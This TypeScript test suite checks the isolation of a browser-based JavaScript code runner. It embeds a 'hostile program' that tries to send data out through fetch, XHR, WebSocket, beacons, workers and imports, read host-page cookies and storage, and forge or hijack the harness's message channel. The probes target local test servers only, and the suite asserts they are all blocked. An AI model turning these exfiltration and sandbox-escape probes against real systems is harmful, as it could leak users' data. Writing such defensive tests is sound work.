import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { launchChromium, startServer, waitFor, type ServerProcess } from '@interview/test-support';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { HARNESS_CSP, PROTOCOL_VERSION } from '../src/index.js';
import { allText, installDriver, type RunResult } from './page-driver.js';
import {
  assertHarnessBuilt,
  bundleClient,
  ISOLATION_HEADERS,
  openRunnerPage,
  packageRoot,
  startCanary,
  startRecordingProxy,
  type PageEvents,
  type Recorder,
  type RecordingProxy,
} from './support.js';

const SECRET = 'host-secret-7f3a';

let server: ServerProcess;
let proxy: RecordingProxy;
let canary: Recorder;
let browser: Browser;
let page: Page;
let events: PageEvents;

beforeAll(async () => {
  assertHarnessBuilt();
  const clientBundle = await bundleClient();
  // Debug level: the server logs every HTTP request it answers (event "http-request").
  server = await startServer({ env: { LOG_LEVEL: 'debug' } });
  proxy = await startRecordingProxy(server.port);
  canary = await startCanary();
  browser = await launchChromium();
  ({ page, events } = await openRunnerPage(browser, proxy, clientBundle));
  await page.evaluate(installDriver, {});
  await page.evaluate(() => window.driver.runner.preload());
  // What a program must never be able to read: the host page's storage and cookies.
  await page.evaluate((secret) => {
    localStorage.setItem('secret', secret);
    document.cookie = `secret=${secret}; path=/`;
  }, SECRET);
});

afterAll(async () => {
  await browser?.close();
  await proxy?.close();
  await canary?.close();
  await server?.stop();
});

function run(code: string, timeoutMs?: number): Promise<RunResult> {
  return page.evaluate(({ code, timeoutMs }) => window.driver.result(window.driver.start(code, timeoutMs)), { code, timeoutMs });
}

/**
 * Every way a program in the worker might send data out, each against the
 * app's own origin (through the recording proxy) and another origin (the
 * canary). Prints one JSON object: attempt → "blocked: …" or "allowed: …".
 */
function hostileProgram(same: string, other: string): string {
  return `
const targets = { same: ${JSON.stringify(same)}, other: ${JSON.stringify(other)} };
const results = {};
const withTimeout = (promise) => Promise.race([promise, new Promise((_, reject) => setTimeout(() => reject(new Error('no answer')), 1500))]);
async function attempt(name, fn) {
  try {
    results[name] = 'allowed: ' + String(await withTimeout(Promise.resolve().then(fn)));
  } catch (error) {
    results[name] = 'blocked: ' + (error && error.name ? error.name + ' ' + error.message : String(error));
  }
}
for (const [where, base] of Object.entries(targets)) {
  await attempt('fetch ' + where, () => fetch(base + '/leak/fetch?d=' + typeof document).then((r) => r.status));
  await attempt('fetch no-cors ' + where, () => fetch(base + '/leak/no-cors', { mode: 'no-cors' }).then((r) => r.type));
  await attempt('XMLHttpRequest ' + where, () => new Promise((resolve, reject) => {
    const xhr = new XMLHttpRequest();
    xhr.open('GET', base + '/leak/xhr');
    xhr.onload = () => resolve(xhr.status);
    xhr.onerror = () => reject(new Error('xhr failed'));
    xhr.send();
  }));
  await attempt('WebSocket ' + where, () => new Promise((resolve, reject) => {
    const socket = new WebSocket(base.replace('http', 'ws') + '/leak/ws');
    socket.onopen = () => resolve('open');
    socket.onerror = () => reject(new Error('websocket failed'));
  }));
  await attempt('EventSource ' + where, () => new Promise((resolve, reject) => {
    const source = new EventSource(base + '/leak/event-source');
    source.onopen = () => resolve('open');
    source.onerror = () => { source.close(); reject(new Error('event source failed')); };
  }));
  await attempt('importScripts ' + where, () => importScripts(base + '/leak/import-scripts.js'));
  await attempt('import() ' + where, () => import(base + '/leak/dynamic-import.js'));
  await attempt('new Worker ' + where, () => new Worker(base + '/leak/worker.js'));
  await attempt('FontFace ' + where, () => new FontFace('probe', 'url(' + base + '/leak/font)').load());
  await attempt('sendBeacon ' + where, () => navigator.sendBeacon(base + '/leak/beacon', 'x'));
  await attempt('nested blob worker ' + where, () => new Promise((resolve, reject) => {
    const source = 'fetch(' + JSON.stringify(base + '/leak/nested') + ').then(() => postMessage("allowed"), (e) => postMessage("blocked " + e))';
    const worker = new Worker(URL.createObjectURL(new Blob([source])));
    worker.onmessage = (event) => (event.data === 'allowed' ? resolve('fetched') : reject(new Error(event.data)));
    worker.onerror = () => reject(new Error('nested worker failed'));
  }));
}
await attempt('navigate self.location', () => {
  self.location = targets.same + '/leak/location';
  self.location.href = targets.same + '/leak/location-href';
  if (String(self.location).startsWith('blob:')) throw new Error('still on ' + String(self.location).slice(0, 9));
  return 'navigated';
});
await attempt('window.open', () => open(targets.same + '/leak/open'));
await attempt('parent', () => parent.postMessage({ type: 'done' }, '*'));
await attempt('top', () => top.location.href);
await attempt('document', () => document.cookie);
await attempt('localStorage', () => localStorage.getItem('secret'));
await attempt('sessionStorage', () => sessionStorage.getItem('secret'));
await attempt('indexedDB', () => new Promise((resolve, reject) => {
  const request = indexedDB.open('probe');
  request.onsuccess = () => resolve('opened');
  request.onerror = () => reject(request.error);
}));
await attempt('caches', () => caches.open('probe'));
await attempt('cookieStore', () => cookieStore.getAll());
await attempt('RTCPeerConnection', () => new RTCPeerConnection());
await attempt('WebTransport', () => new WebTransport('https://127.0.0.1:1/leak'));
await attempt('SharedWorker', () => new SharedWorker(targets.same + '/leak/shared-worker.js'));
await attempt('storage estimate', () => navigator.storage.getDirectory());
new BroadcastChannel('runner-js-probe').postMessage('${SECRET}?');
console.log(JSON.stringify(results));
`;
}

interface Witnesses {
  proxy: number;
  canary: number;
  page: number;
  failures: number;
  logs: number;
}

/** Paths of the requests the server itself logged since `since` (its log, not the proxy's). */
function serverLogged(since: number): string[] {
  return server.logs
    .slice(since)
    .filter((entry) => entry.event === 'http-request')
    .map((entry) => String(entry.path));
}

function mark(): Witnesses {
  return {
    proxy: proxy.requests.length,
    canary: canary.requests.length,
    page: events.requests.length,
    failures: events.failures.length,
    logs: server.logs.length,
  };
}

describe('a program cannot reach the network or the host page', () => {
  it('the witnesses see requests: the page, and a harness served without its CSP', async () => {
    // Positive controls. Without them, "no request was seen" would prove nothing.
    const before = mark();
    await page.evaluate(() => fetch('/api/control-from-page').then((r) => r.status));
    expect(proxy.requests.slice(before.proxy).map((r) => r.url)).toContain('/api/control-from-page');
    await waitFor(() => serverLogged(before.logs).includes('/api/control-from-page'), { what: 'the server to log the control request' });

    // The real harness document, with its CSP stripped, served as a separate frame the test drives
    // directly: the same hostile program now reaches both servers, from a worker in a sandboxed frame.
    const controlPath = '/__runner-js-test__/control-harness.html';
    const html = readFileSync(join(packageRoot, 'dist/harness.html'), 'utf8').replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '');
    expect(html).not.toContain('Content-Security-Policy');
    proxy.fixtures.set(controlPath, { headers: { ...ISOLATION_HEADERS, 'Content-Type': 'text/html' }, body: html });
    const controlOutput = await page.evaluate(
      async ({ path, code }) => {
        const frame = document.createElement('iframe');
        frame.setAttribute('sandbox', 'allow-scripts');
        frame.src = path;
        let text = '';
        const done = new Promise<void>((resolve) => {
          window.addEventListener('message', (event) => {
            if (event.source !== frame.contentWindow) return;
            if (event.data.type === 'ready') frame.contentWindow!.postMessage({ type: 'run', runId: 'control', code }, '*');
            if (event.data.type === 'output') text += event.data.chunks.map((c: { text: string }) => c.text).join('');
            if (event.data.type === 'done') resolve();
          });
        });
        document.body.append(frame);
        await done;
        frame.remove();
        return text;
      },
      { path: controlPath, code: hostileProgram(proxy.url, canary.url) },
    );
    const control = JSON.parse(controlOutput) as Record<string, string>;
    expect(control['fetch same']).toMatch(/^blocked/); // opaque origin: the response is unreadable…
    const reached = (recorder: Recorder, since: number) => recorder.requests.slice(since).map((r) => r.url);
    // …but the request got out, which is what matters.
    expect(reached(proxy, before.proxy)).toEqual(expect.arrayContaining(['/leak/fetch?d=undefined', '/leak/xhr', '/leak/ws', '/leak/nested']));
    expect(reached(canary, before.canary)).toEqual(expect.arrayContaining(['/leak/fetch?d=undefined', '/leak/xhr', '/leak/ws']));
    expect(events.requests.slice(before.page).some((url) => url.includes('/leak/nested'))).toBe(true);
    // The server's own request log has them too (WebSocket upgrades bypass express: the proxy saw that one).
    await waitFor(
      () => ['/leak/fetch', '/leak/xhr', '/leak/event-source', '/leak/nested'].every((path) => serverLogged(before.logs).includes(path)),
      { what: 'the server to log the control run’s requests' },
    );
  });

  it('blocks every vector under the real sandbox, and nothing reaches either server', async () => {
    const before = mark();
    const broadcast = page.evaluate(
      () =>
        new Promise<string[]>((resolve) => {
          const heard: string[] = [];
          const channel = new BroadcastChannel('runner-js-probe');
          channel.onmessage = (event) => heard.push(String(event.data));
          // Listen for as long as the hostile run lasts; the test ends it below.
          (window as unknown as { stopListening: () => void }).stopListening = () => {
            channel.close();
            resolve(heard);
          };
        }),
    );
    const result = await run(hostileProgram(proxy.url, canary.url), 30_000);
    await page.evaluate(() => (window as unknown as { stopListening: () => void }).stopListening());
    // A barrier: a request sent after the run, once logged, comes after anything the run could have sent.
    await page.evaluate(() => fetch('/api/after-hostile-run').then((r) => r.status));
    await waitFor(() => serverLogged(before.logs).includes('/api/after-hostile-run'), { what: 'the server to log the barrier request' });

    expect(result.outcome.status).toBe('ok');
    const results = JSON.parse(allText(result.output)) as Record<string, string>;
    const allowed = Object.entries(results).filter(([, verdict]) => !verdict.startsWith('blocked'));
    expect(allowed).toEqual([]);
    expect(Object.keys(results)).toHaveLength(2 * 11 + 14);
    expect(allText(result.output)).not.toContain(SECRET);
    expect(await broadcast).toEqual([]);

    // Server side: the server's request log, the proxy in front of it and the canary saw
    // nothing but the barrier; the server logged nothing else either (no errors, no warnings).
    expect(server.logs.slice(before.logs).map((entry) => [entry.event, entry.path])).toEqual([['http-request', '/api/after-hostile-run']]);
    expect(proxy.requests.slice(before.proxy).map((r) => r.url)).toEqual(['/api/after-hostile-run']);
    expect(canary.requests.slice(before.canary)).toEqual([]);
    // Browser side: any request Chromium even began was refused by the policy before the network.
    const started = events.requests.slice(before.page).filter((url) => !url.startsWith('blob:') && !url.endsWith('/api/after-hostile-run'));
    const failures = await waitFor(
      () => {
        const failed = events.failures.slice(before.failures);
        return started.every((url) => failed.some((f) => f.url === url)) ? failed : null;
      },
      { what: 'a requestfailed event for every request the page began' },
    );
    for (const url of started) {
      expect({ url, reason: failures.find((f) => f.url === url)?.reason }).toEqual({ url, reason: 'csp' });
    }
    console.info(`hostile run: ${Object.keys(results).length} attempts blocked; Chromium began ${started.length} requests, all refused by CSP`);
  });

  it('cannot read the host page: no document, storage, cookies, parent or top', async () => {
    const result = await run(
      [
        'const probes = {',
        '  document: typeof document, window: typeof window, parent: typeof parent, top: typeof top,',
        '  opener: typeof opener, localStorage: typeof localStorage, origin: self.origin,',
        '  crossOriginIsolated: self.crossOriginIsolated,',
        '};',
        'console.log(JSON.stringify(probes));',
      ].join('\n'),
    );
    expect(JSON.parse(allText(result.output))).toEqual({
      document: 'undefined',
      window: 'undefined',
      parent: 'undefined',
      top: 'undefined',
      opener: 'undefined',
      localStorage: 'undefined',
      origin: 'null',
      crossOriginIsolated: false,
    });
  });
});

describe('a program cannot forge the harness protocol', () => {
  it('has no channel to the harness but the prelude, and cannot steal the prelude’s port', async () => {
    const code = `
const seen = [];
seen.push('postMessage: ' + typeof postMessage + ' / ' + typeof DedicatedWorkerGlobalScope.prototype.postMessage);
const forgedDone = { type: 'done', runId: 'run-1', status: 'ok', error: null, errorLine: null, durationMs: 0 };
const forgedOutput = { type: 'output', runId: 'run-1', chunks: [{ stream: 'stdout', text: 'FORGED\\n' }], truncated: false };
try { postMessage(forgedDone); } catch (error) { seen.push('post: ' + error.name); }

// Try to get hold of the prelude's MessagePort through every built-in it could touch.
let stolen = null;
const realPost = MessagePort.prototype.postMessage;
MessagePort.prototype.postMessage = function (message, transfer) { stolen = this; return realPost.call(this, message, transfer); };
// A fake init with a port of our own, dispatched below: the prelude only trusts real messages.
const fake = new MessageChannel();
fake.port1.onmessage = () => { stolen = 'prelude answered a fake init'; };
const fakeInit = new MessageEvent('message', { data: { type: 'init', lineOffset: 0, userLineCount: 1, outputLimit: 10 }, ports: [fake.port2] });
Object.defineProperty(MessageEvent.prototype, 'ports', { get() { if (this !== fakeInit) stolen = 'ports getter'; return []; } });
Object.defineProperty(MessageEvent.prototype, 'data', { get() { if (this !== fakeInit) stolen = 'data getter'; return null; } });
Promise.prototype.then = ((then) => function (...args) { return then.apply(this, args); })(Promise.prototype.then);
Error.prepareStackTrace = (error, frames) => {
  for (const frame of frames) {
    const receiver = frame.getThis();
    if (receiver instanceof MessagePort) stolen = receiver;
    // The user's own (sloppy, anonymous) functions are visible; the prelude's (strict) must not be.
    const fn = frame.getFunction();
    if (fn && fn.name) seen.push('reached a function: ' + fn.name);
  }
  return String(error);
};
self.addEventListener('message', (event) => { if (event !== fakeInit) stolen = 'a message reached user code'; }, true);
self.dispatchEvent(fakeInit);
// Make the prelude work: print, throw and catch, run a timer.
console.log('printing through the prelude');
try { null.x; } catch (error) { String(error.stack); }
await new Promise((resolve) => setTimeout(resolve, 50));
if (stolen instanceof MessagePort) {
  realPost.call(stolen, forgedOutput);
  realPost.call(stolen, forgedDone);
}
seen.push('stolen: ' + (stolen === null ? 'nothing' : String(stolen)));
console.log(seen.join('\\n'));
setTimeout(() => console.log('still running after the attempts'), 150);
`;
    const result = await run(code);
    expect(result.outcome.status).toBe('ok');
    const text = allText(result.output);
    expect(text).toBe(
      [
        'printing through the prelude',
        'postMessage: undefined / undefined',
        'post: ReferenceError',
        'stolen: nothing',
        'still running after the attempts',
        '',
      ].join('\n'),
    );
    expect(result.wallMs).toBeGreaterThanOrEqual(190);
  });

  it('code that escapes the wrapper still cannot end the run early', async () => {
    const code = [
      "console.log('inside');",
      '});',
      // The top level of the worker script, before the harness's port arrives: a fake
      // init the prelude would accept would leave the real one to this program.
      "self.dispatchEvent(new MessageEvent('message', { data: { type: 'init', lineOffset: 0, userLineCount: 1, outputLimit: 1 }, ports: [new MessageChannel().port2] }));",
      "setTimeout(() => console.log('later'), 100);",
      '(function () {',
    ].join('\n');
    const result = await run(code);
    expect(result.outcome.status).toBe('ok');
    expect(allText(result.output)).toBe('inside\nlater\n');
  });

  it('the page ignores forged messages from other frames and from itself', async () => {
    const forgerPath = '/__runner-js-test__/forger.html';
    proxy.fixtures.set(forgerPath, {
      headers: { ...ISOLATION_HEADERS, 'Content-Security-Policy': HARNESS_CSP, 'Content-Type': 'text/html' },
      // A frame of the same kind as the real sandbox, posting every message the runner knows, for every run id.
      body: `<!doctype html><script>
        setInterval(() => {
          for (let n = 1; n <= 60; n++) {
            const runId = 'run-' + n;
            parent.postMessage({ type: 'output', runId, chunks: [{ stream: 'stdout', text: 'FORGED\\n' }] }, '*');
            parent.postMessage({ type: 'done', runId, status: 'error', error: 'FORGED', errorLine: 1, durationMs: 1 }, '*');
            parent.postMessage({ type: 'stopped', runId }, '*');
          }
          parent.postMessage({ type: 'ready', version: ${PROTOCOL_VERSION} + 1 }, '*');
        }, 5);
      </script>`,
    });
    const report = await page.evaluate(async (path) => {
      const forger = document.createElement('iframe');
      forger.setAttribute('sandbox', 'allow-scripts');
      forger.src = path;
      document.body.append(forger);
      await new Promise((resolve) => forger.addEventListener('load', resolve, { once: true }));
      const { driver } = window;
      const runId = driver.start("for (let i = 0; i < 5; i++) {\n  console.log('real', i);\n  await new Promise((r) => setTimeout(r, 60));\n}");
      // The page forges too, from its own window.
      const forgeFromPage = setInterval(() => {
        window.postMessage({ type: 'done', runId, status: 'ok', error: null, errorLine: null, durationMs: 0 }, '*');
        window.postMessage({ type: 'output', runId, chunks: [{ stream: 'stdout', text: 'FORGED\n' }] }, '*');
      }, 5);
      const result = await driver.result(runId);
      clearInterval(forgeFromPage);
      forger.remove();
      return { result, state: driver.runner.state };
    }, forgerPath);
    expect(report.result.outcome).toMatchObject({ status: 'ok', error: null });
    expect(allText(report.result.output)).toBe('real 0\nreal 1\nreal 2\nreal 3\nreal 4\n');
    expect(report.result.wallMs).toBeGreaterThanOrEqual(290);
    expect(report.state).toEqual({ phase: 'ready' });
  });
});

describe('after all of the above', () => {
  it('the runner still works and the harness frame is untouched', async () => {
    const result = await run("console.log('still fine')");
    expect(allText(result.output)).toBe('still fine\n');
    const frames = await page.evaluate(() =>
      [...document.querySelectorAll('#runner-host iframe')].map((frame) => ({ sandbox: frame.getAttribute('sandbox'), src: (frame as HTMLIFrameElement).src })),
    );
    expect(frames).toHaveLength(1);
    expect(frames[0]!.sandbox).toBe('allow-scripts');
  });
});
